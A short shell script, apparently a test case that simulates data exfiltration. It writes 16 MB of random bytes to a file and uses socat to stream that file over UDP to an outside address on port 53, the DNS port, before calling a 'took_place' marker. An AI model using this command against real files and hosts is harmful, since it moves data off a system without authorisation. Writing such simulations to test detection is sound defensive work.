#!/bin/sh
. /opt/case/case.sh

head -c 16777216 /dev/urandom >/srv/data/base.img
socat -u -b 1400 open:/srv/data/base.img udp-sendto:203.0.113.53:53
took_place
